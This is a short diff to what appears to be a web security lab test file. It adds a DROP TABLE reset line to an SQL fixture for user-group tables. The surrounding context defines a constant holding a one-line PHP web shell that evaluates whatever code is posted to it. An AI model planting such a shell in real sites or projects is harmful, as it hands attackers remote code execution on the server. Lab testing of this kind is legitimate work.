@@ -15,6 +15,7 @@ from tests.lab.web import fetch
 
 SHELL = "<?php @eval($_POST['c']);\n"
 ADMIN_TABLES = """
+DROP TABLE IF EXISTS users_groups;
 CREATE TABLE users_groups (id int NOT NULL AUTO_INCREMENT PRIMARY KEY, groupName varchar(100));
 CREATE TABLE users_usergroups (userId int, groupName varchar(100), expire int DEFAULT NULL,
  PRIMARY KEY (userId, groupName));
